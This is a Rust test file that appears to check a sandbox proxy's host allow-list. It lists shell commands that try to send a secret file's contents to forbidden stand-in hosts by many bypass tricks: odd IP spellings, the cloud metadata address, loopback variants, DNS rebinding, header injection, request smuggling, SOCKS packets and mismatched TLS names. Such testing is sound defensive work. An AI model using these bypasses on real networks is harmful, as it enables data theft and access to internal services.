//! Attempts to reach forbidden hosts through a proxy that allows some hosts, with every spelling of names and
//! addresses.
//!
//! - Servers outside the sandbox record connections. The attacks may connect only to `twin.test`, which the proxy
//!   allows.

use crate::row::{Bare::Untried, Group, Row, Sign::Said};

pub(crate) const GROUP: Group = Group { listeners: true, proxied: true, ..Group::new("proxied", ROWS) };

const GET: &str = r#"printf "GET http://twin.test/%s HTTP/1.1\r\nHost: twin.test\r\nConnection: close\r\n\r\n" $(cat $R/secret) | $P proxy"#;
const TUNNEL: &str = "$P hello twin.test $(cat $R/secret) | $P tunnel twin.test:443";
const PLAIN: &str = "cat $R/secret | $P tunnel twin.test:80";
const PORT: &str = "cat $R/secret | $P tunnel twin.test:8080";
const WILD: &str = "$P hello a.wild.test $(cat $R/secret) | $P tunnel a.wild.test:443";
const SOCKS: &str = r#"printf "\5\1\0\5\1\0\3\011twin.test\0\120%s" $(cat $R/secret) | $P proxy"#;
const CURL: &str = "curl -s --max-time 5 -x http://127.0.0.1:3128 http://twin.test/$(cat $R/secret)";

/// Returns a row that runs only in a sandbox, because the proxy does not exist outside a sandbox.
const fn way(name: &'static str, attack: &'static str, twin: &'static str) -> Row {
    Row::new(name, attack, twin, Said).bare(Untried)
}

const ROWS: &[Row] = &[
    way(
        "a direct connection",
        "$P tcp 9.9.9.66:80 $M; $P tcp 9.9.9.9:80 $M; $P tcp 9.9.9.10:22 $M; $P tcp [2620:fe::66]:80 $M; $P tcp 10.9.9.9:80 $M",
        GET,
    ),
    way("a direct datagram", "$P udp 9.9.9.66:53 $M; $P udp 9.9.9.10:53 $M; $P udp [2620:fe::66]:53 $M", GET),
    way("the host's loopback directly", "$P tcp 127.0.0.1:$PORT $M; $P tcp [::1]:$PORT6 $M", GET),
    way("a name that is not allowed", "$P hello denied.test $M | $P tunnel denied.test:443", TUNNEL),
    way(
        "a denied name without TLS",
        r#"printf "GET http://denied.test/%s HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
        GET,
    ),
    way(
        "a denied name through SOCKS",
        r#"printf "\5\1\0\5\1\0\3\013denied.test\0\120GET /%s HTTP/1.1\r\n\r\n" $M | $P proxy"#,
        SOCKS,
    ),
    way(
        "a name below an allowed one",
        "$P hello sub.allowed.test $M | $P tunnel sub.allowed.test:443",
        TUNNEL,
    ),
    way(
        "a name with an allowed suffix",
        "$P hello notallowed.test $M | $P tunnel notallowed.test:443",
        TUNNEL,
    ),
    way(
        "a name with an allowed prefix",
        "$P hello allowed.test.denied.test $M | $P tunnel allowed.test.denied.test:443",
        TUNNEL,
    ),
    way("the parent of a pattern", "$P hello wild.test $M | $P tunnel wild.test:443", WILD),
    way(
        "a denied name that a pattern allows",
        "$P hello bad.wild.test $M | $P tunnel bad.wild.test:443; $P hello bad.wild.test $M | $P tunnel BAD.wild.test:443; $P hello bad.wild.test $M | $P tunnel bad.wild.test.:443",
        WILD,
    ),
    way("a trailing dot", "$P hello denied.test $M | $P tunnel denied.test.:443", TUNNEL),
    way(
        "a name as user information",
        r#"printf "GET http://allowed.test@denied.test/%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n" $M | $P proxy; echo $M | $P tunnel allowed.test@denied.test:80"#,
        GET,
    ),
    way(
        "a name after a fragment",
        r#"printf "GET http://denied.test/#@allowed.test/%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n" $M | $P proxy; printf "GET http://denied.test\\\\@allowed.test/%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n" $M | $P proxy"#,
        GET,
    ),
    way(
        "an escaped name",
        r#"echo $M | $P tunnel denied%2Etest:80; printf "GET http://denied%2etest/%s HTTP/1.1\r\nHost: denied%2etest\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
        GET,
    ),
    way(
        "a name in fullwidth letters",
        "echo $M | $P tunnel ｄｅｎｉｅｄ.test:80; echo $M | $P tunnel denied。test:80",
        GET,
    ),
    way(
        "a name with a NUL byte",
        r#"printf "CONNECT denied.test\0.allowed.test:80 HTTP/1.1\r\n\r\n%s" $M | $P proxy; printf "\5\1\0\5\1\0\3\030denied.test\0allowed.test\0\120%s" $M | $P proxy"#,
        SOCKS,
    ),
    way(
        "a name with a space",
        r#"echo $M | $P tunnel "allowed.test:80 denied.test:80"; printf "CONNECT  denied.test:80 HTTP/1.1\r\n\r\n%s" $M | $P proxy"#,
        PLAIN,
    ),
    way(
        "another name in the header",
        r#"printf "CONNECT denied.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n%s" $M | $P proxy; printf "GET http://denied.test/%s HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
        GET,
    ),
    way(
        "a name only in the header",
        r#"printf "GET /%s HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
        GET,
    ),
    way(
        "an address",
        r#"echo $M | $P tunnel 9.9.9.66:80; printf "GET http://9.9.9.66/%s HTTP/1.1\r\nHost: 9.9.9.66\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 9.9.9.66 $M | $P tunnel 9.9.9.66:443"#,
        PLAIN,
    ),
    way(
        "an IPv6 address",
        r#"echo $M | $P tunnel [2620:fe::66]:80; printf "GET http://[2620:fe::66]/%s HTTP/1.1\r\nHost: [2620:fe::66]\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
        PLAIN,
    ),
    way(
        "an IPv4-mapped IPv6 address",
        r#"echo $M | $P tunnel [::ffff:9.9.9.66]:80; printf "GET http://[::ffff:9.9.9.66]/%s HTTP/1.1\r\nHost: [::ffff:9.9.9.66]\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
        PLAIN,
    ),
    way(
        "an IPv4-mapped IPv6 address in another spelling",
        r#"echo $M | $P tunnel [::ffff:909:942]:80; printf "GET http://[::ffff:909:942]/%s HTTP/1.1\r\nHost: [::ffff:909:942]\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
        PLAIN,
    ),
    way(
        "an address as a number",
        r#"echo $M | $P tunnel 151587138:80; printf "GET http://151587138/%s HTTP/1.1\r\nHost: 151587138\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 151587138 $M | $P tunnel 151587138:443"#,
        PLAIN,
    ),
    way(
        "an address in octal digits",
        r#"echo $M | $P tunnel 011.011.011.0102:80; printf "GET http://011.011.011.0102/%s HTTP/1.1\r\nHost: 011.011.011.0102\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 011.011.011.0102 $M | $P tunnel 011.011.011.0102:443"#,
        PLAIN,
    ),
    way(
        "an address in hexadecimal digits",
        r#"echo $M | $P tunnel 0x9.0x9.0x9.0x42:80; printf "GET http://0x9.0x9.0x9.0x42/%s HTTP/1.1\r\nHost: 0x9.0x9.0x9.0x42\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 0x9.0x9.0x9.0x42 $M | $P tunnel 0x9.0x9.0x9.0x42:443"#,
        PLAIN,
    ),
    way(
        "an address as one hexadecimal number",
        r#"echo $M | $P tunnel 0x09090942:80; printf "GET http://0x09090942/%s HTTP/1.1\r\nHost: 0x09090942\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 0x09090942 $M | $P tunnel 0x09090942:443"#,
        PLAIN,
    ),
    way(
        "a short address",
        r#"echo $M | $P tunnel 9.9.2370:80; printf "GET http://9.9.2370/%s HTTP/1.1\r\nHost: 9.9.2370\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 9.9.2370 $M | $P tunnel 9.9.2370:443"#,
        PLAIN,
    ),
    way(
        "a private address",
        r#"echo $M | $P tunnel 10.9.9.9:80; printf "GET http://10.9.9.9/%s HTTP/1.1\r\nHost: 10.9.9.9\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 10.9.9.9 $M | $P tunnel 10.9.9.9:443"#,
        PLAIN,
    ),
    way(
        "the metadata address",
        r#"echo $M | $P tunnel 169.254.169.254:80; printf "GET http://169.254.169.254/%s HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 169.254.169.254 $M | $P tunnel 169.254.169.254:443"#,
        PLAIN,
    ),
    way(
        "the proxy's own address",
        r#"echo $M | $P tunnel 9.9.9.1:80; printf "GET http://9.9.9.1/%s HTTP/1.1\r\nHost: 9.9.9.1\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 9.9.9.1 $M | $P tunnel 9.9.9.1:443"#,
        PLAIN,
    ),
    way(
        "an address through SOCKS",
        r#"printf "\5\1\0\5\1\0\1\011\011\011\102\0\120%s" $M | $P proxy"#,
        SOCKS,
    ),
    way(
        "an IPv6 address through SOCKS",
        r#"printf "\5\1\0\5\1\0\4\046\040\0\376\0\0\0\0\0\0\0\0\0\0\0\146\0\120%s" $M | $P proxy"#,
        SOCKS,
    ),
    way(
        "an address as a name through SOCKS",
        r#"printf "\5\1\0\5\1\0\3\0109.9.9.66\0\120%s" $M | $P proxy"#,
        SOCKS,
    ),
    way(
        "an older SOCKS version",
        r#"printf "\4\1\0\120\011\011\011\102\0%s" $M | $P proxy; printf "\4\1\0\120\0\0\0\1\0denied.test\0%s" $M | $P proxy"#,
        SOCKS,
    ),
    way("datagrams through SOCKS", r#"printf "\5\1\0\5\3\0\1\011\011\011\102\0\065%s" $M | $P proxy"#, SOCKS),
    way("listening through SOCKS", r#"printf "\5\1\0\5\2\0\3\011twin.test\0\120%s" $M | $P proxy"#, SOCKS),
    way(
        "the host's loopback",
        "for a in 127.0.0.1 localhost 127.1 127.0.1.1 0 0.0.0.0 2130706433 0177.0.0.1 0x7f.1 [::1] [::] [::ffff:127.0.0.1] loopback.test; do echo $M | $P tunnel $a:$PORT; echo $M | $P tunnel $a:$PORT6; done",
        PLAIN,
    ),
    way(
        "the host's loopback without TLS",
        r#"for a in 127.0.0.1 localhost 127.1 127.0.1.1 0 0.0.0.0 2130706433 0177.0.0.1 0x7f.1 [::1] [::] [::ffff:127.0.0.1] loopback.test; do printf "GET http://$a:$PORT/%s HTTP/1.1\r\nHost: $a\r\nConnection: close\r\n\r\n" $M | $P proxy; done"#,
        GET,
    ),
    way(
        "the proxy through itself",
        "echo $M | $P tunnel 127.0.0.1:3128; echo $M | $P tunnel localhost:3128",
        PLAIN,
    ),
    way(
        "an allowed name with a private address",
        r#"echo $M | $P tunnel private.test:80; printf "GET http://private.test/%s HTTP/1.1\r\nHost: private.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello private.test $M | $P tunnel private.test:443"#,
        PLAIN,
    ),
    way(
        "an allowed name with a link-local address",
        r#"echo $M | $P tunnel link.test:80; printf "GET http://link.test/%s HTTP/1.1\r\nHost: link.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello link.test $M | $P tunnel link.test:443"#,
        PLAIN,
    ),
    way(
        "an allowed name with the proxy's own address",
        r#"echo $M | $P tunnel own.test:80; printf "GET http://own.test/%s HTTP/1.1\r\nHost: own.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello own.test $M | $P tunnel own.test:443"#,
        PLAIN,
    ),
    way(
        "an allowed name with a mapped address",
        r#"echo $M | $P tunnel mapped.test:80; printf "GET http://mapped.test/%s HTTP/1.1\r\nHost: mapped.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello mapped.test $M | $P tunnel mapped.test:443"#,
        PLAIN,
    ),
    way(
        "an allowed name with a translated address",
        r#"echo $M | $P tunnel translated.test:80; printf "GET http://translated.test/%s HTTP/1.1\r\nHost: translated.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello translated.test $M | $P tunnel translated.test:443"#,
        PLAIN,
    ),
    way(
        "an allowed name with one private address",
        r#"echo $M | $P tunnel mixed.test:80; printf "GET http://mixed.test/%s HTTP/1.1\r\nHost: mixed.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello mixed.test $M | $P tunnel mixed.test:443"#,
        PLAIN,
    ),
    way(
        "an allowed name with the address zero",
        r#"echo $M | $P tunnel nought.test:80; printf "GET http://nought.test/%s HTTP/1.1\r\nHost: nought.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello nought.test $M | $P tunnel nought.test:443"#,
        PLAIN,
    ),
    way(
        "a name that changes its address",
        "i=0; while [ $i -lt 4 ]; do echo $M | $P tunnel rebinding.test:80; echo $M | $P tunnel rebinding.test:$PORT; i=$((i+1)); done",
        PLAIN,
    ),
    way(
        "a port that was not allowed",
        r#"for p in 22 25 53 8080 0 65536 99999 080 " 80"; do echo $M | $P tunnel "allowed.test:$p"; done"#,
        PORT,
    ),
    way(
        "a default port if another is allowed",
        "echo $M | $P tunnel spelled.test:80; $P hello spelled.test $M | $P tunnel spelled.test:443",
        PORT,
    ),
    way(
        "no port",
        r#"echo $M | $P tunnel denied.test; echo $M | $P tunnel allowed.test; printf "CONNECT denied.test HTTP/1.1\r\n\r\n%s" $M | $P proxy"#,
        PLAIN,
    ),
    way("another name in the TLS hello", "$P hello denied.test $M | $P tunnel allowed.test:443", TUNNEL),
    way("no name in the TLS hello", "$P hello - $M | $P tunnel allowed.test:443", TUNNEL),
    way(
        "a different name in the TLS hello",
        "$P hello allowed.test.denied.test $M | $P tunnel allowed.test:443; $P hello sub.allowed.test $M | $P tunnel allowed.test:443",
        TUNNEL,
    ),
    way(
        "no TLS hello",
        r#"echo $M | $P tunnel allowed.test:443; printf "GET /%s HTTP/1.1\r\nHost: denied.test\r\n\r\n" $M | $P tunnel allowed.test:443; printf "SSH-2.0-%s\r\n" $M | $P tunnel allowed.test:443"#,
        TUNNEL,
    ),
    way("half a TLS hello", "$P hello allowed.test $M | head -c 40 | $P tunnel allowed.test:443", TUNNEL),
    way(
        "a second request on an allowed connection",
        r#"printf "GET http://twin.test/ HTTP/1.1\r\nHost: twin.test\r\n\r\nGET http://denied.test/%s HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
        GET,
    ),
    way(
        "a request in the body of another",
        r#"printf "POST http://twin.test/ HTTP/1.1\r\nHost: twin.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://denied.test/%s HTTP/1.1\r\nHost: denied.test\r\n\r\n" $M | $P proxy"#,
        GET,
    ),
    way(
        "a line break within a header",
        r#"printf "GET http://twin.test/\r\nGET http://denied.test/%s HTTP/1.1\r\nHost: denied.test\r\n\r\n" $M | $P proxy; printf "GET http://twin.test/%%0d%%0aHost:denied.test/%s HTTP/1.1\r\nHost: twin.test\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
        GET,
    ),
    way(
        "another scheme",
        r#"for s in https ftp file gopher ws; do printf "GET $s://denied.test/%s HTTP/1.1\r\nHost: denied.test\r\n\r\n" $M | $P proxy; done"#,
        GET,
    ),
    way(
        "an upgrade",
        r#"printf "GET http://denied.test/%s HTTP/1.1\r\nHost: denied.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n" $M | $P proxy; printf "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n%s" $M | $P proxy"#,
        GET,
    ),
    way("a redirect", "curl -sL --max-time 5 -x http://127.0.0.1:3128 http://twin.test/redirect/$M", CURL),
    way(
        "a client with its own proxy settings",
        r#"curl -s --max-time 5 -x http://127.0.0.1:3128 http://denied.test/$M; curl -s --max-time 5 -x socks5h://127.0.0.1:3128 http://denied.test/$M; curl -s --max-time 5 -x socks5://127.0.0.1:3128 http://9.9.9.66/$M; curl -sk --max-time 5 -x http://127.0.0.1:3128 https://denied.test/$M; curl -s --noproxy "*" --max-time 5 http://9.9.9.66/$M"#,
        CURL,
    ),
    way(
        "a name with a forced address",
        "curl -s --max-time 5 --resolve denied.test:80:9.9.9.66 -x http://127.0.0.1:3128 http://denied.test/$M; curl -sk --max-time 5 -x http://127.0.0.1:3128 --connect-to allowed.test:443:denied.test:443 https://allowed.test/$M",
        CURL,
    ),
    way(
        "many connections at once",
        "i=0; while [ $i -lt 20 ]; do echo $M | $P tunnel denied.test:80 & i=$((i+1)); done; wait",
        PLAIN,
    ),
];
